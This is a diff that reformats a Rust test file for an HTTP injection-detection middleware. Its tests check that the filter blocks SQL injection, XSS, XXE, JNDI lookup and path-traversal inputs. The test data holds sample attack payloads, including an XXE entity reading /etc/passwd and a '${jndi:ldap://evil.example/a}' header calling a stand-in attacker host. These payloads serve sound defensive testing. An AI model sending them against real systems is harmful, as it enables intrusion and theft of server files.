@@ -35,7 +35,10 @@ struct Seen {
 type BoxErr = Box<dyn std::error::Error + Send + Sync>;
 
 /// Sends `req` through `layer` into a service that records what it received.
-async fn send<B>(layer: &InjectionLayer, req: Request<B>) -> (Response<Bytes>, Option<SecurityEvents>, Seen)
+async fn send<B>(
+    layer: &InjectionLayer,
+    req: Request<B>,
+) -> (Response<Bytes>, Option<SecurityEvents>, Seen)
 where
     B: http_body::Body<Data = Bytes> + Send + Unpin + 'static,
     B::Error: std::fmt::Display,
@@ -106,10 +109,15 @@ async fn blocks_with_problem_json_without_echoing_the_payload() {
     assert_eq!(res.headers()["content-type"], "application/problem+json");
     let body = String::from_utf8(res.body().to_vec()).unwrap();
     assert!(body.contains("\"sqli\""), "{body}");
-    assert!(!body.to_lowercase().contains("union"), "payload echoed: {body}");
+    assert!(
+        !body.to_lowercase().contains("union"),
+        "payload echoed: {body}"
+    );
     assert!(!seen.reached);
     let ev = injection_events(&events);
-    assert!(ev.iter().any(|(c, l, b)| *c == Category::Sqli && l == "query:id" && *b));
+    assert!(ev
+        .iter()
+        .any(|(c, l, b)| *c == Category::Sqli && l == "query:id" && *b));
 }
 
 #[tokio::test]
@@ -117,9 +125,14 @@ async fn benign_requests_pass_untouched() {
     let layer = InjectionLayer::new().unwrap();
     let req = Request::post("/account/profile?lang=de")
         .header("content-type", "application/x-www-form-urlencoded")
-        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64; de-DE) Firefox/120.0")
+        .header(
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64; de-DE) Firefox/120.0",
+        )
         .header("cookie", "session=abc123; theme=dark")
-        .body(full("first_name=Ren%C3%A9&last_name=O%27Brien&address=12+rue+de+la+Paix%2C+Paris"))
+        .body(full(
+            "first_name=Ren%C3%A9&last_name=O%27Brien&address=12+rue+de+la+Paix%2C+Paris",
+        ))
         .unwrap();
     let (res, events, seen) = send(&layer, req).await;
     assert_eq!(res.status(), StatusCode::OK);
@@ -133,7 +146,10 @@ async fn benign_requests_pass_untouched() {
 
 #[tokio::test]
 async fn monitor_mode_passes_and_reports() {
-    let layer = InjectionLayer::builder().mode(Mode::Monitor).build().unwrap();
+    let layer = InjectionLayer::builder()
+        .mode(Mode::Monitor)
+        .build()
+        .unwrap();
     let req = Request::get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")
         .body(full(""))
         .unwrap();
@@ -141,12 +157,16 @@ async fn monitor_mode_passes_and_reports() {
     assert_eq!(res.status(), StatusCode::OK);
     assert!(seen.reached);
     let ev = injection_events(&events);
-    assert!(ev.iter().any(|(c, l, b)| *c == Category::Xss && l == "query:q" && !*b));
+    assert!(ev
+        .iter()
+        .any(|(c, l, b)| *c == Category::Xss && l == "query:q" && !*b));
 }
 
-fn frames_body(
-    frames: Vec<Result<Frame<Bytes>, std::io::Error>>,
-) -> StreamBody<futures_util::stream::Iter<std::vec::IntoIter<Result<Frame<Bytes>, std::io::Error>>>> {
+/// A body streaming the given frames.
+type FramesBody = StreamBody<futures_util::stream::Iter<std::vec::IntoIter<FrameResult>>>;
+type FrameResult = Result<Frame<Bytes>, std::io::Error>;
+
+fn frames_body(frames: Vec<FrameResult>) -> FramesBody {
     StreamBody::new(futures_util::stream::iter(frames))
 }
 
@@ -160,7 +180,10 @@ async fn buffered_body_is_byte_identical_with_trailers() {
         Ok(Frame::data(Bytes::from_static(b"lo\", \"b\": [1, 2]}"))),
         Ok(Frame::trailers(trailers.clone())),
     ]);
-    let req = Request::post("/api").header("content-type", "application/json").body(body).unwrap();
+    let req = Request::post("/api")
+        .header("content-type", "application/json")
+        .body(body)
+        .unwrap();
     let (res, _, seen) = send(&layer, req).await;
     assert_eq!(res.status(), StatusCode::OK);
     assert!(seen.buffered);
@@ -190,12 +213,17 @@ async fn attack_in_json_is_located_by_path() {
     let layer = InjectionLayer::new().unwrap();
     let req = Request::post("/api/v1/orders")
         .header("content-type", "application/json")
-        .body(full(r#"{"items": [{"sku": "A-1", "note": "x' OR '1'='1' --"}]}"#))
+        .body(full(
+            r#"{"items": [{"sku": "A-1", "note": "x' OR '1'='1' --"}]}"#,
+        ))
         .unwrap();
     let (res, events, _) = send(&layer, req).await;
     assert_eq!(res.status(), StatusCode::FORBIDDEN);
     let ev = injection_events(&events);
-    assert!(ev.iter().any(|(_, l, _)| l == "json:$.items[0].note"), "{ev:?}");
+    assert!(
+        ev.iter().any(|(_, l, _)| l == "json:$.items[0].note"),
+        "{ev:?}"
+    );
 }
 
 #[tokio::test]
@@ -233,7 +261,10 @@ async fn gzip_bodies_are_inspected_decompressed() {
 
 #[tokio::test]
 async fn a_decompression_bomb_is_bounded_and_passed_on_unchanged() {
-    let layer = InjectionLayer::builder().body_limit(64 * 1024).build().unwrap();
+    let layer = InjectionLayer::builder()
+        .body_limit(64 * 1024)
+        .build()
+        .unwrap();
     // 32 MiB of zeros compress to about 32 KiB.
     let compressed = gzip(&vec![b'a'; 32 << 20]);
     assert!(compressed.len() < 64 * 1024);
@@ -264,7 +295,9 @@ async fn oversized_bodies_follow_the_policy() {
         .oversized_body(OversizedBody::Reject)
         .build()
         .unwrap();
-    let req = Request::post("/notes").body(Full::new(Bytes::from(big))).unwrap();
+    let req = Request::post("/notes")
+        .body(Full::new(Bytes::from(big)))
+        .unwrap();
     let (res, _, seen) = send(&reject, req).await;
     assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
     assert!(!seen.reached);
@@ -280,13 +313,18 @@ async fn unknown_encodings_follow_the_policy() {
     let (res, events, seen) = send(&pass, req).await;
     assert_eq!(res.status(), StatusCode::OK);
     assert!(!seen.buffered);
-    assert!(injection_events(&events).iter().any(|(c, _, b)| *c == Category::Protocol && !b));
+    assert!(injection_events(&events)
+        .iter()
+        .any(|(c, _, b)| *c == Category::Protocol && !b));
 
     let reject = InjectionLayer::builder()
         .unknown_encoding(UnknownEncoding::Reject)
         .build()
         .unwrap();
-    let req = Request::post("/x").header("content-encoding", "br").body(full("x")).unwrap();
+    let req = Request::post("/x")
+        .header("content-encoding", "br")
+        .body(full("x"))
+        .unwrap();
     let (res, _, _) = send(&reject, req).await;
     assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
 }
@@ -320,16 +358,27 @@ async fn exclusions_excuse_one_family_at_one_location() {
         .build()
         .unwrap();
     let html = r#"{"title": "Hi", "body": "<p>See <img src=x onerror=alert(1)></p>"}"#;
-    let req = Request::post("/api/posts").header("content-type", "application/json").body(full(html)).unwrap();
+    let req = Request::post("/api/posts")
+        .header("content-type", "application/json")
+        .body(full(html))
+        .unwrap();
     assert_eq!(send(&layer, req).await.0.status(), StatusCode::OK);
     // Another field, or another route, is still inspected.
     let other = r#"{"title": "<script>alert(1)</script>", "body": "x"}"#;
-    let req = Request::post("/api/posts").header("content-type", "application/json").body(full(other)).unwrap();
+    let req = Request::post("/api/posts")
+        .header("content-type", "application/json")
+        .body(full(other))
+        .unwrap();
     assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
-    let req = Request::post("/api/comments").header("content-type", "application/json").body(full(html)).unwrap();
+    let req = Request::post("/api/comments")
+        .header("content-type", "application/json")
+        .body(full(html))
+        .unwrap();
     assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
     // Excluded bodies are not even buffered.
-    let req = Request::post("/upload/a.bin").body(full("<script>alert(1)</script>")).unwrap();
+    let req = Request::post("/upload/a.bin")
+        .body(full("<script>alert(1)</script>"))
+        .unwrap();
     let (res, _, seen) = send(&layer, req).await;
     assert_eq!(res.status(), StatusCode::OK);
     assert!(!seen.buffered);
@@ -345,38 +394,63 @@ async fn multipart_inspects_fields_and_file_names_not_contents() {
     };
     let req = Request::post("/upload")
         .header("content-type", "multipart/form-data; boundary=XyZ")
-        .body(Full::new(Bytes::from(body("notes.txt", "' OR 1=1 -- <script>alert(1)</script>"))))
+        .body(Full::new(Bytes::from(body(
+            "notes.txt",
+            "' OR 1=1 -- <script>alert(1)</script>",
+        ))))
         .unwrap();
-    let (r, ev, _) = send(&layer, req).await; assert_eq!(r.status(), StatusCode::OK, "{ev:?}");
+    let (r, ev, _) = send(&layer, req).await;
+    assert_eq!(r.status(), StatusCode::OK, "{ev:?}");
     let req = Request::post("/upload")
         .header("content-type", "multipart/form-data; boundary=XyZ")
         .body(Full::new(Bytes::from(body("shell.php", "hello"))))
         .unwrap();
     let (res, events, _) = send(&layer, req).await;
     assert_eq!(res.status(), StatusCode::FORBIDDEN);
-    assert!(injection_events(&events).iter().any(|(_, l, _)| l == "multipart-filename:file"));
+    assert!(injection_events(&events)
+        .iter()
+        .any(|(_, l, _)| l == "multipart-filename:file"));
 }
 
 #[tokio::test]
 async fn xml_text_and_entities_are_inspected() {
     let layer = InjectionLayer::new().unwrap();
-    let xxe = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
-    let req = Request::post("/soap").header("content-type", "application/xml").body(full(xxe)).unwrap();
+    let xxe =
+        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
+    let req = Request::post("/soap")
+        .header("content-type", "application/xml")
+        .body(full(xxe))
+        .unwrap();
     assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
     let ok = r#"<order id="7"><note>Leave at the door, thanks!</note></order>"#;
-    let req = Request::post("/soap").header("content-type", "application/xml").body(full(ok)).unwrap();
+    let req = Request::post("/soap")
+        .header("content-type", "application/xml")
+        .body(full(ok))
+        .unwrap();
     assert_eq!(send(&layer, req).await.0.status(), StatusCode::OK);
 }
 
 #[tokio::test]
 async fn headers_and_cookies_are_inspected_and_skip_list_is_configurable() {
     let layer = InjectionLayer::new().unwrap();
-    let req = Request::get("/").header("x-api-version", "${jndi:ldap://evil.example/a}").body(full("")).unwrap();
+    let req = Request::get("/")
+        .header("x-api-version", "${jndi:ldap://evil.example/a}")
+        .body(full(""))
+        .unwrap();
     assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
-    let req = Request::get("/").header("cookie", "prefs=../../../../etc/passwd").body(full("")).unwrap();
+    let req = Request::get("/")
+        .header("cookie", "prefs=../../../../etc/passwd")
+        .body(full(""))
+        .unwrap();
     assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
-    let skip = InjectionLayer::builder().skip_header("x-api-version").build().unwrap();
-    let req = Request::get("/").header("x-api-version", "${jndi:ldap://evil.example/a}").body(full("")).unwrap();
+    let skip = InjectionLayer::builder()
+        .skip_header("x-api-version")
+        .build()
+        .unwrap();
+    let req = Request::get("/")
+        .header("x-api-version", "${jndi:ldap://evil.example/a}")
+        .body(full(""))
+        .unwrap();
     assert_eq!(send(&skip, req).await.0.status(), StatusCode::OK);
 }
 
@@ -384,7 +458,10 @@ async fn headers_and_cookies_are_inspected_and_skip_list_is_configurable() {
 async fn strict_profile_flags_more() {
     let value = "/search?q=%3Cb%3Ebold%3C%2Fb%3E%22%20x%3D%22";
     let balanced = InjectionLayer::new().unwrap();
-    let strict = InjectionLayer::builder().profile(Profile::Strict).build().unwrap();
+    let strict = InjectionLayer::builder()
+        .profile(Profile::Strict)
+        .build()
+        .unwrap();
     let req = || Request::get(value).body(full("")).unwrap();
     assert_eq!(send(&balanced, req()).await.0.status(), StatusCode::OK);
     assert_eq!(send(&strict, req()).await.0.status(), StatusCode::FORBIDDEN);
@@ -392,11 +469,36 @@ async fn strict_profile_flags_more() {
 
 #[test]
 fn configuration_errors_are_values() {
-    assert_eq!(InjectionLayer::builder().threshold(0).build().unwrap_err().setting(), "threshold");
-    assert_eq!(InjectionLayer::builder().body_limit(0).build().unwrap_err().setting(), "body_limit");
-    assert_eq!(InjectionLayer::builder().max_depth(0).build().unwrap_err().setting(), "max_depth");
     assert_eq!(
-        InjectionLayer::builder().skip_header("bad header").build().unwrap_err().setting(),
+        InjectionLayer::builder()
+            .threshold(0)
+            .build()
+            .unwrap_err()
+            .setting(),
+        "threshold"
+    );
+    assert_eq!(
+        InjectionLayer::builder()
+            .body_limit(0)
+            .build()
+            .unwrap_err()
+            .setting(),
+        "body_limit"
+    );
+    assert_eq!(
+        InjectionLayer::builder()
+            .max_depth(0)
+            .build()
+            .unwrap_err()
+            .setting(),
+        "max_depth"
+    );
+    assert_eq!(
+        InjectionLayer::builder()
+            .skip_header("bad header")
+            .build()
+            .unwrap_err()
+            .setting(),
         "skip_header"
     );
 }
@@ -421,7 +523,11 @@ fn a_mebibyte_of_adversarial_input_inspects_in_bounded_time() {
         let _ = detector.inspect(&req);
         let _ = detect_sqli(&input);
         // Generous: linear-time inspection of 1 MiB takes milliseconds.
-        assert!(started.elapsed() < Duration::from_secs(20), "{}", &input[..8]);
+        assert!(
+            started.elapsed() < Duration::from_secs(20),
+            "{}",
+            &input[..8]
+        );
     }
 }
 
@@ -433,12 +539,20 @@ async fn works_as_an_axum_layer() {
         .layer(InjectionLayer::new().unwrap());
     let res = app
         .clone()
-        .oneshot(Request::get("/hello?name=ann").body(axum::body::Body::empty()).unwrap())
+        .oneshot(
+            Request::get("/hello?name=ann")
+                .body(axum::body::Body::empty())
+                .unwrap(),
+        )
         .await
         .unwrap();
     assert_eq!(res.status(), StatusCode::OK);
     let res = app
-        .oneshot(Request::get("/hello?name=%3Csvg%20onload%3Dalert(1)%3E").body(axum::body::Body::empty()).unwrap())
+        .oneshot(
+            Request::get("/hello?name=%3Csvg%20onload%3Dalert(1)%3E")
+                .body(axum::body::Body::empty())
+                .unwrap(),
+        )
         .await
         .unwrap();
     assert_eq!(res.status(), StatusCode::FORBIDDEN);
